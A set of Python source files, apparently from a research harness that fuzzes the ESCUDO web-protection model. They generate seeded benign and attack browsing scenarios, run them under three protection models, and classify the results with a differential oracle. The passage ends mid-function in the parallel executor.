        fields (``duration_s`` and the derived throughputs) are excluded;
        everything semantic, including every verdict and the aggregate
        mediation counters, is in.  Decision-cache hit counters are
        *performance* telemetry, not semantics: with the per-worker warm
        compile caches they legitimately depend on how scenarios are sharded
        (what an earlier scenario warmed), so they live in :meth:`as_dict`
        only -- verdicts, digests, mediation and denial counts must still
        match byte for byte.
        """
        return {
            "seed": self.seed,
            "count": self.count,
            "models": list(self.models),
            "attack_ratio": self.attack_ratio,
            "ok": self.ok,
            "benign": self.benign_count,
            "attacks": self.attack_count,
            "verdicts": [v.as_dict() for v in self.verdicts],
            "mediations": self.mediations,
            "denied": self.denied,
            "pages_loaded": self.pages_loaded,
            "tasks_run": self.tasks_run,
        }

    def as_dict(self) -> dict:
        """The ``BENCH_scenarios.json`` payload."""
        return {
            "seed": self.seed,
            "count": self.count,
            "models": list(self.models),
            "attack_ratio": self.attack_ratio,
            "ok": self.ok,
            "benign": self.benign_count,
            "attacks": self.attack_count,
            "failures": [v.as_dict() for v in self.failures],
            "duration_s": self.duration_s,
            "scenarios_per_second": self.scenarios_per_second,
            "mediations": self.mediations,
            "mediations_per_second": self.mediations_per_second,
            "denied": self.denied,
            "cache_hit_rate": self.cache_hit_rate,
            "pages_loaded": self.pages_loaded,
            "tasks_run": self.tasks_run,
            "faults": self.faults,
        }

    def summary(self) -> str:
        """Multi-line human-readable report."""
        lines = [
            f"scenario suite: seed={self.seed} count={self.count} "
            f"matrix={','.join(self.models)}",
            f"  benign: {self.benign_count}  attacks: {self.attack_count}  "
            f"failures: {len(self.failures)}",
            f"  {self.scenarios_per_second:,.1f} scenarios/s | "
            f"{self.mediations_per_second:,.0f} mediations/s | "
            f"cache hit rate {self.cache_hit_rate * 100.0:.1f}% | "
            f"{self.pages_loaded} pages in {self.duration_s:.2f}s",
        ]
        for verdict in self.failures:
            lines.append(f"  FAIL [{verdict.replay or verdict.scenario}] {verdict.reason}")
            if verdict.replay:
                # Replay tokens are only meaningful under the same generator
                # configuration *and* policy matrix, so spell the full
                # command out.
                lines.append(
                    f"    reproduce: python -m repro.scenarios --replay {verdict.replay} "
                    f"--attack-ratio {self.attack_ratio} "
                    f"--matrix {','.join(self.models)} --spec"
                )
        if self.ok:
            lines.append("  all scenarios satisfied the differential invariant")
        return "\n".join(lines)


def run_suite(
    *,
    seed: int | str = 42,
    count: int = 100,
    models=("escudo", "sop", "none"),
    attack_ratio: float = 0.25,
    generator: ScenarioGenerator | None = None,
    runner: ScenarioRunner | None = None,
    oracle: DifferentialOracle | None = None,
    indices=None,
    compile_caches: bool = True,
    script_engine: str = "vm",
    storage: str = "dict",
    faults=None,
) -> SuiteResult:
    """Generate and differentially check ``count`` scenarios.

    ``indices`` overrides the default ``range(count)`` with an explicit list
    of scenario indices -- the sharded executor runs each worker's slice
    through this very loop, so the serial and parallel engines share one
    generate -> run -> classify -> aggregate code path.  ``compile_caches``
    controls the default runner's warm compile-cache stack and
    ``script_engine`` its execution engine (``"vm"`` or ``"walker"``) and
    ``storage`` the application persistence backend (``"dict"`` or
    ``"sqlite"``); with ``faults`` a
    :class:`~repro.faults.plan.FaultConfig` (or its dict form) arms the
    fault-injection plane on every run.  All four are ignored when an
    explicit ``runner`` is passed (the runner carries its own).
    """
    generator = generator or ScenarioGenerator(seed=seed, attack_ratio=attack_ratio)
    runner = runner or ScenarioRunner(
        models=models,
        compile_caches=compile_caches,
        script_engine=script_engine,
        storage=storage,
        faults=faults,
    )
    oracle = oracle or DifferentialOracle()
    model_names = tuple(spec.name for spec in runner.specs)
    index_list = list(range(count)) if indices is None else list(indices)
    result = SuiteResult(
        seed=generator.seed,
        count=len(index_list),
        models=model_names,
        attack_ratio=generator.attack_ratio,
    )

    start = time.perf_counter()
    for index in index_list:
        scenario = generator.scenario(index)
        runs = runner.run(scenario)
        verdict = oracle.classify(scenario, runs)
        result.indices.append(index)
        result.verdicts.append(verdict)
        if not verdict.ok:
            failure = {
                "index": index,
                "spec": scenario.to_dict(),
                "reason": verdict.reason,
                "replay": verdict.replay,
            }
            if runner.faults is not None:
                # Pin the fault schedule with the spec so the corpus replay
                # reproduces the failure under the same faults.
                failure["faults"] = runner.faults.to_dict()
            result.failure_specs.append(failure)
        for run in runs.values():
            result.mediations += run.mediations
            result.denied += run.denied
            result.cache_hits += run.cache_hits
            result.cache_lookups += run.cache_lookups
            result.pages_loaded += run.pages_loaded
            result.tasks_run += run.tasks_run
            if run.faults:
                merge_fault_stats(result.faults, run.faults)
    result.duration_s = time.perf_counter() - start
    return result
