"""Seeded random scenario generation.

Every scenario is generated from an isolated ``random.Random`` instance
keyed by ``(suite seed, scenario index)``, so scenario ``i`` of seed ``s``
is always the same scenario -- independent of how many scenarios were
generated before it, which attacks are registered, or the order tests run
in.  A failing fuzz case therefore shrinks to a two-number replay token
(``"<seed>:<index>"``) that reproduces it forever.

A replay token pins the scenario *relative to the generator configuration*:
the same seed, index, ``attack_ratio``, application set and registered
attack corpus always regenerate the same scenario.  Changing any of those
(e.g. a different ``--attack-ratio``, or registering extra attacks) shifts
what a token maps to -- to pin a scenario *permanently*, serialise it with
``Scenario.to_dict()`` (the CLI's ``--replay <token> --spec``) and replay
the dict.

Benign scenarios compose multi-user, multi-tab sessions over the three
case-study applications: logins, topic posting, replies, private messages,
calendar events, blog comments, link clicks and read-only XHR probes --
synchronous *and* asynchronous (``xhr_async`` leaves the completion queued
on the tab's event loop until a later ``advance_time`` / ``drain`` step
runs it) -- all interleaved across 1-3 actors.  Every scenario also draws
an ``interleave`` seed that permutes same-due event-loop tasks, so the
suite explores diverse but perfectly replayable task orderings.  Attack scenarios embed one attack from the
:mod:`repro.attacks` corpus inside such a session: bystanders act before
(and between) the plant and the victim's fatal browse, exactly the
interleaving a real deployment would see.

The benign vocabulary is disjoint from the attack corpus's sentinel strings
("PWNED", "CSRF-FORGED", ...), so success predicates can never trigger on
benign traffic.

Determinism contract: nothing in this module may iterate a ``set`` or rely
on string-hash order at an emission point -- draws come from seeded
``random.Random`` instances over *ordered* pools (tuples, sorted corpus
names), so the same ``(seed, index)`` yields byte-identical specs in any
process, under any ``PYTHONHASHSEED``.  Sharded parallel execution and the
regression corpus both depend on this; it is locked in by
``tests/scenarios/test_determinism.py``.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.attacks.harness import Attack, app_keys, registered_attacks

from .model import (
    ROLE_ATTACKER,
    ROLE_BYSTANDER,
    ROLE_VICTIM,
    Actor,
    Scenario,
    Step,
    make_step,
)

#: Bystander name pool ("victim" and "mallory" are reserved roles).
BYSTANDER_NAMES = ("alice", "bob", "carol", "dave", "erin", "frank")

#: Benign text fragments (no markup, no attack sentinels).
_TOPICS = ("carpool plans", "meeting notes", "release schedule", "lunch ideas", "bug triage")
_BODIES = (
    "sounds good to me",
    "let us sync up on thursday",
    "I pushed the latest draft",
    "counting heads for friday",
    "minutes are on the wiki",
)
_EVENT_TITLES = ("standup", "review", "retrospective", "workshop", "office hours")


def parse_replay_token(token: str) -> tuple[str, int, bool]:
    """Split a replay token into ``(seed text, index, forced_benign)``."""
    base = token
    forced_benign = base.endswith(":benign")
    if forced_benign:
        base = base[: -len(":benign")]
    seed_text, _, index_text = base.rpartition(":")
    if not seed_text or not index_text.isdigit():
        raise ValueError(f"malformed replay token {token!r}; expected '<seed>:<index>[:benign]'")
    return seed_text, int(index_text), forced_benign


def attack_corpus() -> dict[str, Attack]:
    """The injectable attack corpus, keyed by attack name."""
    return {attack.name: attack for attack in registered_attacks()}


def attack_by_name(name: str) -> Attack:
    """Look one attack up (KeyError with the known names on a miss)."""
    corpus = attack_corpus()
    if name not in corpus:
        raise KeyError(f"unknown attack {name!r}; known: {sorted(corpus)}")
    return corpus[name]


@dataclass
class ScenarioGenerator:
    """Deterministic scenario factory.

    ``attack_ratio`` is the per-index probability that a scenario embeds an
    attack; the draw itself is seeded, so the benign/attack split for a given
    seed is fixed.
    """

    seed: int | str = 42
    apps: tuple[str, ...] = ()
    attack_ratio: float = 0.25
    #: Step budget for the benign portion of a scenario.
    min_steps: int = 3
    max_steps: int = 7
    _attack_names: tuple[str, ...] = field(default=(), repr=False)

    #: Applications the generator has a step vocabulary for.
    KNOWN_APPS = ("phpbb", "phpcalendar", "blog")

    def __post_init__(self) -> None:
        if not self.apps:
            self.apps = tuple(key for key in self.KNOWN_APPS if key in app_keys())
        unknown = [key for key in self.apps if key not in self.KNOWN_APPS]
        if unknown:
            raise ValueError(
                f"no generator vocabulary for application(s) {unknown}; the seeded "
                f"generator covers {self.KNOWN_APPS}. Registered custom apps can "
                "still be driven with hand-written Scenario specs."
            )
        if not self._attack_names:
            self._attack_names = tuple(sorted(attack_corpus()))

    # -- public API -----------------------------------------------------------------------

    def generate(self, count: int) -> list[Scenario]:
        """The first ``count`` scenarios of this seed."""
        return [self.scenario(index) for index in range(count)]

    def scenario(self, index: int) -> Scenario:
        """Scenario ``index`` of this seed (stable under replay)."""
        rng = self._rng(index)
        gate = rng.random()  # always drawn, so benign() consumes the same stream
        if self._attack_names and gate < self.attack_ratio:
            return self._attack_scenario(rng, index)
        return self._benign_scenario(rng, index)

    def benign(self, index: int) -> Scenario:
        """Benign scenario ``index``, bypassing the attack gate.

        Consumes the same gate draw as :meth:`scenario`, so when ``scenario``
        lands on the benign branch the two produce identical steps.  The
        replay token carries a ``:benign`` suffix so the CLI regenerates the
        forced-benign variant, not whatever the gate would have picked.
        """
        rng = self._rng(index)
        rng.random()  # the attack-gate draw scenario() makes
        return self._benign_scenario(rng, index, forced_benign=True)

    def replay(self, token: str) -> Scenario:
        """Regenerate a scenario from its replay token.

        Tokens are ``"<seed>:<index>"`` (gate decides benign vs attack) or
        ``"<seed>:<index>:benign"`` (forced-benign, as :meth:`benign` emits).
        """
        seed_text, index, forced_benign = parse_replay_token(token)
        if str(self.seed) != seed_text:
            raise ValueError(f"replay token {token!r} belongs to seed {seed_text}, not {self.seed}")
        return self.benign(index) if forced_benign else self.scenario(index)

    # -- internals ------------------------------------------------------------------------

    def _rng(self, index: int) -> random.Random:
        return random.Random(f"{self.seed}:{index}")

    def _benign_scenario(
        self, rng: random.Random, index: int, *, forced_benign: bool = False
    ) -> Scenario:
        app_key = rng.choice(self.apps)
        names = rng.sample(BYSTANDER_NAMES, k=rng.randint(1, 3))
        actors = [Actor(name=name, role=ROLE_BYSTANDER) for name in names]
        steps: list[Step] = []
        logged_in: set[str] = set()
        for _ in range(rng.randint(self.min_steps, self.max_steps)):
            actor = rng.choice(actors)
            steps.append(self._benign_step(rng, app_key, actor.name, actors, logged_in))
        return Scenario(
            name=f"benign-{app_key}-{index:04d}",
            app_key=app_key,
            kind="benign",
            actors=actors,
            steps=steps,
            replay=f"{self.seed}:{index}" + (":benign" if forced_benign else ""),
            interleave=self._interleave(rng),
        )

    def _attack_scenario(self, rng: random.Random, index: int) -> Scenario:
        attack = attack_by_name(rng.choice(self._attack_names))
        victim = Actor(name="victim", role=ROLE_VICTIM)
        attacker = Actor(name="mallory", role=ROLE_ATTACKER)
        bystanders = [
            Actor(name=name, role=ROLE_BYSTANDER)
            for name in rng.sample(BYSTANDER_NAMES, k=rng.randint(0, 2))
        ]
        actors = [victim, attacker] + bystanders
        logged_in: set[str] = set()
        steps: list[Step] = []

        def bystander_noise(budget: int) -> None:
            for _ in range(budget):
                actor = rng.choice(bystanders)
                steps.append(
                    self._benign_step(rng, attack.app_key, actor.name, bystanders, logged_in)
                )

        if bystanders:
            bystander_noise(rng.randint(0, 3))
        if attack.requires_login:
            steps.append(make_step(victim.name, "login", username=victim.name))
            # The victim may keep browsing the target application before the
            # attack lands (the CSRF predicate only counts cross-site
            # requests, so the app's own trusted traffic cannot trip it).
            if rng.random() < 0.5:
                steps.append(
                    make_step(victim.name, "visit", path=self._browse_path(rng, attack.app_key))
                )
        steps.append(make_step(attacker.name, "attack_plant"))
        if bystanders and rng.random() < 0.5:
            bystander_noise(1)
        steps.append(make_step(victim.name, "attack_victim"))
        return Scenario(
            name=f"attack-{attack.name}-{index:04d}",
            app_key=attack.app_key,
            kind="attack",
            actors=actors,
            steps=steps,
            replay=f"{self.seed}:{index}",
            attack_name=attack.name,
            interleave=self._interleave(rng),
        )

    @staticmethod
    def _interleave(rng: random.Random) -> int:
        """The scenario's task-ordering seed.

        Drawn *last* (after every step), so the field itself shifts no
        earlier draw.  (What a ``(seed, index)`` token maps to still moved
        in this revision because the benign *vocabulary* grew -- replay
        tokens are only ever stable relative to the generator configuration;
        see the module docstring.  Pinned full specs are the durable form.)
        Always non-zero: every generated scenario carries an explicit
        ordering.
        """
        return rng.randint(1, 2**31 - 1)

    def _browse_path(self, rng: random.Random, app_key: str) -> str:
        paths = {
            "phpbb": ("/", "/viewtopic?t=1", "/viewtopic?t=2"),
            "phpcalendar": ("/", "/view?id=1", "/view?id=2"),
            "blog": ("/", "/post?id=1"),
        }
        return rng.choice(paths.get(app_key, ("/",)))

    def _benign_step(
        self,
        rng: random.Random,
        app_key: str,
        actor: str,
        actors: list[Actor],
        logged_in: set[str],
    ) -> Step:
        """One benign action for ``actor``, respecting login preconditions."""
        needs_login = {
            "phpbb": ("post_topic", "reply", "send_pm"),
            "phpcalendar": ("create_event",),
            "blog": (),
        }[app_key]
        anonymous = {
            "phpbb": ("visit", "click_topic", "xhr_get", "xhr_async", "advance_time", "drain"),
            "phpcalendar": ("visit", "xhr_get", "xhr_async", "drain"),
            "blog": ("visit", "comment", "advance_time"),
        }[app_key]
        pool = anonymous + needs_login + ("login",)
        action = rng.choice(pool)
        if action in needs_login and actor not in logged_in:
            action = "login"
        body = rng.choice(_BODIES)
        if action == "login":
            logged_in.add(actor)
            return make_step(actor, "login", username=actor)
        if action == "visit":
            return make_step(actor, "visit", path=self._browse_path(rng, app_key))
        if action == "click_topic":
            return make_step(actor, "click_topic", topic=rng.choice(("1", "2")))
        if action == "xhr_get":
            path = "/api/unread" if app_key == "phpbb" else "/api/event_count"
            return make_step(actor, "xhr_get", path=path, tab=-1)
        if action == "xhr_async":
            # The completion stays queued on the tab's loop until a later
            # advance_time/drain step (by any schedule) runs it -- or the
            # scenario ends with it pending, which must also be deterministic.
            path = "/api/unread" if app_key == "phpbb" else "/api/event_count"
            return make_step(actor, "xhr_async", path=path, tab=-1)
        if action == "advance_time":
            return make_step(actor, "advance_time", ms=rng.choice(("1", "5", "10")), tab=-1)
        if action == "drain":
            return make_step(actor, "drain", tab=-1)
        if action == "post_topic":
            return make_step(actor, "post_topic", subject=rng.choice(_TOPICS), message=body)
        if action == "reply":
            return make_step(actor, "reply", topic=rng.choice(("1", "2")), message=body)
        if action == "send_pm":
            recipients = [a.name for a in actors if a.name != actor] or [actor]
            return make_step(
                actor, "send_pm", to=rng.choice(recipients), subject=rng.choice(_TOPICS), body=body
            )
        if action == "create_event":
            return make_step(
                actor,
                "create_event",
                date=f"2010-04-{rng.randint(10, 28):02d}",
                title=rng.choice(_EVENT_TITLES),
                description=body,
            )
        if action == "comment":
            return make_step(actor, "comment", post="1", author=actor, body=body)
        raise AssertionError(f"unhandled benign action {action!r}")
