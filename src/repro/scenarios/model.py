"""The declarative scenario model.

A *scenario* is a small, serialisable script of a multi-user browsing
session: a set of actors (victims, bystanders, an attacker), an ordered list
of steps each actor performs (log in, post, browse, click, fire an XHR), and
-- for attack scenarios -- an injection point referencing an attack from the
:mod:`repro.attacks` corpus.

Scenarios are *data*, not code: they can be generated randomly from a seed
(:mod:`repro.scenarios.generator`), executed under any protection model
(:mod:`repro.scenarios.runner`), serialised to a dict for replay, and pinned
verbatim into regression tests when a fuzzing run finds a divergence.

The *policy matrix* lives here too: every scenario can be executed under

* ``escudo`` -- ESCUDO-configured application, ESCUDO-enforcing browser;
* ``sop``    -- the same ESCUDO-configured application viewed through a
  legacy same-origin-policy browser (headers and AC tags are ignored);
* ``none``   -- the application rendered without any ESCUDO markup at all,
  viewed through the legacy browser.

The differential oracle (:mod:`repro.scenarios.oracle`) compares the runs:
benign scenarios must leave byte-identical application state everywhere
(protection is transparent), attacks must be blocked exactly under
``escudo``.
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field


def _json_text(value: object) -> str:
    """Coerce a step-parameter value to its canonical JSON-safe text form.

    Specs must survive ``dump -> load -> dump`` byte-identically, so every
    value is flattened to a string *before* the first dump: enums contribute
    their payload (``Operation.READ`` would round-trip as the useless
    ``"Operation.READ"`` otherwise), everything else its ``str()``.
    """
    if isinstance(value, enum.Enum):
        value = value.value
    return str(value)


def canonical_spec_json(data: dict) -> str:
    """The canonical byte encoding of a spec dict (sorted keys, no spaces).

    Corpus entries, replay files and determinism tests all compare specs
    through this one encoding, so "byte-identical" means the same thing
    everywhere.
    """
    return json.dumps(data, sort_keys=True, separators=(",", ":"))


@dataclass(frozen=True)
class ModelSpec:
    """One column of the policy matrix."""

    name: str
    #: Protection model the victim-side browsers enforce.
    browser_model: str
    #: Whether the server application emits ESCUDO headers and AC tags.
    escudo_app: bool

    @property
    def protected(self) -> bool:
        """True when this column enforces the full ESCUDO policy."""
        return self.browser_model == "escudo"


#: The three standard columns of the differential experiment.
MODEL_MATRIX: dict[str, ModelSpec] = {
    "escudo": ModelSpec(name="escudo", browser_model="escudo", escudo_app=True),
    "sop": ModelSpec(name="sop", browser_model="sop", escudo_app=True),
    "none": ModelSpec(name="none", browser_model="sop", escudo_app=False),
}


def resolve_models(names) -> tuple[ModelSpec, ...]:
    """Turn model names (or a comma-separated string) into specs."""
    if isinstance(names, str):
        names = [part.strip() for part in names.split(",") if part.strip()]
    specs = []
    for name in names:
        spec = MODEL_MATRIX.get(name)
        if spec is None:
            raise ValueError(f"unknown protection model {name!r}; expected one of {sorted(MODEL_MATRIX)}")
        specs.append(spec)
    if not specs:
        raise ValueError("the policy matrix needs at least one model")
    return tuple(specs)


#: Actor roles.
ROLE_VICTIM = "victim"
ROLE_BYSTANDER = "bystander"
ROLE_ATTACKER = "attacker"


@dataclass(frozen=True)
class Actor:
    """One user participating in a scenario (one browser profile each)."""

    name: str
    role: str = ROLE_BYSTANDER

    def to_dict(self) -> dict:
        return {"name": self.name, "role": self.role}

    @classmethod
    def from_dict(cls, data: dict) -> "Actor":
        return cls(name=data["name"], role=data.get("role", ROLE_BYSTANDER))


#: Actions understood by the runner.  ``attack_plant`` / ``attack_victim``
#: are only valid in attack scenarios and delegate to the referenced attack.
ACTIONS = (
    "login",        # {username?} -- submit the index login form
    "visit",        # {path}      -- open a new tab on the target application
    "post_topic",   # {subject, message}            (phpbb)
    "reply",        # {topic, message}              (phpbb)
    "send_pm",      # {to, subject, body}           (phpbb, logged in)
    "click_topic",  # {topic}                       (phpbb)
    "create_event", # {date, title, description}    (phpcalendar, logged in)
    "comment",      # {post, author, body}          (blog)
    "xhr_get",      # {path}      -- ad-hoc script issues a read-only XHR
    "xhr_async",    # {path}      -- async XHR; completion stays queued on the tab's loop
    "advance_time", # {ms}        -- advance the tab's virtual clock, running due tasks
    "drain",        # {}          -- run the tab's event loop to quiescence
    "attack_plant",
    "attack_victim",
)

#: Actions that act on an already-open tab (every other action opens its
#: own tab; the runner rejects specs that set ``tab`` on those).
TAB_ACTIONS = ("xhr_get", "xhr_async", "advance_time", "drain")


@dataclass(frozen=True)
class Step:
    """One action by one actor.

    ``tab`` is only meaningful for the :data:`TAB_ACTIONS` (the actions that
    act on an already-open tab): an index into the actor's open-tab list
    (the browser's ``loaded`` list), ``-1`` meaning the most recent tab.
    Every other action opens its own tab; the runner rejects specs that set
    ``tab`` on them.
    """

    actor: str
    action: str
    params: tuple[tuple[str, str], ...] = ()
    tab: int = -1

    def __post_init__(self) -> None:
        if self.action not in ACTIONS:
            raise ValueError(f"unknown scenario action {self.action!r}")

    def param(self, name: str, default: str = "") -> str:
        """Single parameter with a default."""
        for key, value in self.params:
            if key == name:
                return value
        return default

    def to_dict(self) -> dict:
        # Normalise on the way *out*: hand-built steps may carry non-string
        # parameter values (ints, enums); flattening here makes the very
        # first dump the canonical form, so dump -> load -> dump is
        # byte-identical from the start.
        data: dict = {
            "actor": self.actor,
            "action": self.action,
            "params": {_json_text(key): _json_text(value) for key, value in self.params},
        }
        if self.tab != -1:
            data["tab"] = int(self.tab)
        return data

    @classmethod
    def from_dict(cls, data: dict) -> "Step":
        return cls(
            actor=data["actor"],
            action=data["action"],
            params=tuple(sorted((str(k), str(v)) for k, v in data.get("params", {}).items())),
            tab=int(data.get("tab", -1)),
        )


def make_step(actor: str, action: str, *, tab: int = -1, **params: object) -> Step:
    """Build a step with keyword parameters (sorted for determinism)."""
    return Step(
        actor=actor,
        action=action,
        params=tuple(sorted((key, _json_text(value)) for key, value in params.items())),
        tab=tab,
    )


@dataclass
class Scenario:
    """One complete, replayable multi-user session."""

    name: str
    app_key: str
    kind: str  # "benign" | "attack"
    actors: list[Actor] = field(default_factory=list)
    steps: list[Step] = field(default_factory=list)
    #: Replay token ``"<seed>:<index>"`` when generated; "" for hand-written.
    replay: str = ""
    #: Name of the injected attack (attack scenarios only).
    attack_name: str | None = None
    #: Seed for the event loop's same-due task permutation (0 = plain FIFO).
    #: Part of the spec, so a replay reproduces the exact interleaving.
    interleave: int = 0

    def __post_init__(self) -> None:
        if self.kind not in ("benign", "attack"):
            raise ValueError(f"scenario kind must be 'benign' or 'attack', not {self.kind!r}")
        if self.kind == "attack" and not self.attack_name:
            raise ValueError("attack scenarios must reference an attack by name")

    @property
    def victim(self) -> Actor:
        """The designated victim (first victim-role actor, else the first actor)."""
        for actor in self.actors:
            if actor.role == ROLE_VICTIM:
                return actor
        if not self.actors:
            raise ValueError(f"scenario {self.name!r} has no actors")
        return self.actors[0]

    def actor(self, name: str) -> Actor:
        """Look an actor up by name."""
        for actor in self.actors:
            if actor.name == name:
                return actor
        raise KeyError(f"scenario {self.name!r} has no actor {name!r}")

    def to_dict(self) -> dict:
        """Serialise for replay files and pinned regression tests."""
        data: dict = {
            "name": self.name,
            "app_key": self.app_key,
            "kind": self.kind,
            "actors": [actor.to_dict() for actor in self.actors],
            "steps": [step.to_dict() for step in self.steps],
        }
        if self.replay:
            data["replay"] = self.replay
        if self.attack_name:
            data["attack_name"] = self.attack_name
        if self.interleave:
            data["interleave"] = int(self.interleave)
        return data

    def canonical_json(self) -> str:
        """Canonical byte encoding of this scenario's spec dict."""
        return canonical_spec_json(self.to_dict())

    @classmethod
    def from_dict(cls, data: dict) -> "Scenario":
        return cls(
            name=data["name"],
            app_key=data["app_key"],
            kind=data["kind"],
            actors=[Actor.from_dict(entry) for entry in data.get("actors", [])],
            steps=[Step.from_dict(entry) for entry in data.get("steps", [])],
            replay=data.get("replay", ""),
            attack_name=data.get("attack_name"),
            interleave=int(data.get("interleave", 0)),
        )
