"""The differential oracle: classify a scenario's runs across the matrix.

The paper's core claim (Section 6.4) turned into an executable invariant:

* **Transparency** -- a *benign* scenario must leave byte-identical
  application-visible state under every protection model.  ESCUDO mediation
  may deny accesses along the way, but a well-behaved session never notices.
* **Differential defense** -- an *attack* scenario must be **blocked** under
  ``escudo`` and **succeed** under every legacy column (``sop`` / ``none``),
  reproducing the protected-vs-unprotected differential at fuzzing scale.
* **Attributability** -- every blocked attack must be explainable: at least
  one denial recorded in the victim browser's audit logs since the attack
  was planted, carrying the specific policy rule that produced it.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .model import Scenario
from .runner import ScenarioRun


@dataclass
class Verdict:
    """The oracle's classification of one scenario across the matrix."""

    scenario: str
    kind: str
    ok: bool
    reason: str
    replay: str = ""
    runs: dict[str, ScenarioRun] = field(default_factory=dict)

    def as_dict(self) -> dict:
        """Compact serialisation for reports."""
        data: dict = {
            "scenario": self.scenario,
            "kind": self.kind,
            "ok": self.ok,
            "reason": self.reason,
        }
        if self.replay:
            data["replay"] = self.replay
        return data


def _snapshot_divergence(runs: dict[str, ScenarioRun]) -> str:
    """Human-readable pointer at the first differing snapshot key."""
    models = sorted(runs)
    reference = runs[models[0]].snapshot
    for model in models[1:]:
        other = runs[model].snapshot
        for key in sorted(set(reference) | set(other)):
            if reference.get(key) != other.get(key):
                return (
                    f"state diverges between {models[0]!r} and {model!r} at {key!r}: "
                    f"{reference.get(key)!r} != {other.get(key)!r}"
                )
    return "state digests differ"


class DifferentialOracle:
    """Classifies scenario runs; ``protected`` names the enforcing column."""

    def __init__(self, protected: str = "escudo") -> None:
        self.protected = protected

    def classify(self, scenario: Scenario, runs: dict[str, ScenarioRun]) -> Verdict:
        """Apply the invariant matching ``scenario.kind`` to ``runs``."""
        if not runs:
            raise ValueError("cannot classify a scenario with no runs")
        if scenario.kind == "benign":
            return self._classify_benign(scenario, runs)
        return self._classify_attack(scenario, runs)

    # -- benign: transparency ----------------------------------------------------------------

    def _classify_benign(self, scenario: Scenario, runs: dict[str, ScenarioRun]) -> Verdict:
        # Emission points are sorted by model name so the reason text is
        # independent of run-dict insertion order (and of PYTHONHASHSEED --
        # parallel shards must merge to byte-identical verdicts).
        digests = {model: runs[model].digest for model in sorted(runs)}
        if len(set(digests.values())) == 1:
            return Verdict(
                scenario=scenario.name,
                kind="benign",
                ok=True,
                reason=f"transparent: identical state digest {next(iter(digests.values()))[:12]} "
                f"across {sorted(digests)}",
                replay=scenario.replay,
                runs=runs,
            )
        return Verdict(
            scenario=scenario.name,
            kind="benign",
            ok=False,
            reason=f"TRANSPARENCY VIOLATION: digests {digests}; {_snapshot_divergence(runs)}",
            replay=scenario.replay,
            runs=runs,
        )

    # -- attack: differential + attribution -------------------------------------------------------

    def _classify_attack(self, scenario: Scenario, runs: dict[str, ScenarioRun]) -> Verdict:
        problems: list[str] = []
        if self.protected not in runs:
            problems.append(
                f"{self.protected}: not in the matrix -- the blocked-under-"
                f"{self.protected} half of the invariant was never checked"
            )
        for model in sorted(runs):
            run = runs[model]
            if run.attack_result is None:
                problems.append(f"{model}: attack was never executed")
                continue
            if model == self.protected:
                if run.attack_result.succeeded:
                    problems.append(f"{model}: attack SUCCEEDED (must be blocked)")
                elif not run.attack_denials:
                    problems.append(
                        f"{model}: attack blocked but no denial in the audit log attributes it"
                    )
                elif all(d.rule == "" for d in run.attack_denials):
                    problems.append(f"{model}: denials carry no policy rule")
            else:
                if not run.attack_result.succeeded:
                    problems.append(f"{model}: attack NEUTRALIZED (must succeed unprotected)")
        if problems:
            return Verdict(
                scenario=scenario.name,
                kind="attack",
                ok=False,
                reason="DIFFERENTIAL VIOLATION: " + "; ".join(problems),
                replay=scenario.replay,
                runs=runs,
            )
        protected_run = runs.get(self.protected)
        attribution = ""
        if protected_run is not None and protected_run.attack_denials:
            first = protected_run.attack_denials[0]
            attribution = (
                f"; blocked by rule {first.rule!r} ({first.operation} "
                f"{first.principal} -> {first.object})"
            )
        return Verdict(
            scenario=scenario.name,
            kind="attack",
            ok=True,
            reason=f"differential held for {scenario.attack_name}" + attribution,
            replay=scenario.replay,
            runs=runs,
        )
