"""Sharded parallel scenario execution with deterministic result merging.

The serial engine (:func:`repro.scenarios.engine.run_suite`) executes one
scenario at a time in one process -- fine for a hundred scenarios, a ceiling
for the ROADMAP's fuzzing-at-scale ambitions.  This module partitions the
seeded index space across N share-nothing worker processes:

* each worker constructs its **own** generator / runner / oracle stack (and,
  through them, its own applications, networks, browsers, reference monitors
  and decision caches -- nothing is shared, nothing needs locking);
* scenario ``i`` of seed ``s`` is the same scenario in every process (the
  generator keys an isolated ``random.Random`` on ``(seed, index)``), so a
  shard's verdicts are byte-identical to the verdicts a serial run produces
  for the same indices;
* shard reports are merged deterministically -- verdicts re-sorted by
  scenario index, aggregate counters summed -- so
  :meth:`~repro.scenarios.engine.SuiteResult.parity_dict` of a parallel run
  equals the serial run's, byte for byte;
* every failing spec is pinned into the regression corpus
  (:mod:`repro.scenarios.corpus`) from the parent process (a single writer,
  so no file races between workers).

Everything that crosses the process boundary is a plain dict of JSON-native
values: the shard config going out, the shard report coming back.  Worker
processes are started by :class:`concurrent.futures.ProcessPoolExecutor`;
under the default ``fork`` start method they inherit runtime application /
attack registrations, under ``spawn`` only import-time registrations exist
(an unknown attack name then fails loudly in the worker rather than
silently generating different scenarios: the parent snapshots its attack
corpus into the shard config).
"""

from __future__ import annotations

import time
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field

from .corpus import save_failure
from .engine import SuiteResult, run_suite
from .generator import ScenarioGenerator
from .model import resolve_models
from .oracle import DifferentialOracle, Verdict
from .runner import ScenarioRunner


def partition_indices(count: int, shards: int) -> list[list[int]]:
    """Strided partition of ``range(count)`` into ``shards`` balanced slices.

    Striding (shard ``k`` takes indices ``k, k+shards, ...``) spreads the
    expensive attack scenarios -- which the seeded gate sprinkles across the
    index space -- evenly over workers, where contiguous blocks could hand
    one worker a run of them.
    """
    if count < 0:
        raise ValueError("count must be non-negative")
    if shards < 1:
        raise ValueError("need at least one shard")
    return [list(range(shard, count, shards)) for shard in range(shards)]


def _run_shard(config: dict) -> dict:
    """Execute one shard in a worker process (share-nothing, picklable I/O).

    Builds a private generator / runner / oracle from the config snapshot and
    delegates to :func:`~repro.scenarios.engine.run_suite` over the shard's
    indices -- the serial engine's loop *is* the shard loop, so the two can
    never drift apart.
    """
    suite = run_suite(
        generator=ScenarioGenerator(
            seed=config["seed"],
            apps=tuple(config["apps"]),
            attack_ratio=config["attack_ratio"],
            _attack_names=tuple(config["attack_names"]),
        ),
        # One runner per shard = one compile-cache stack per worker process:
        # templates, script ASTs and decision-cache warmth live for the
        # shard's whole index slice.
        runner=ScenarioRunner(
            models=tuple(config["models"]),
            compile_caches=config.get("compile_caches", True),
            script_engine=config.get("script_engine", "vm"),
        ),
        oracle=DifferentialOracle(),
        indices=config["indices"],
    )
    return {
        "shard": config["shard"],
        "scenarios": len(suite.verdicts),
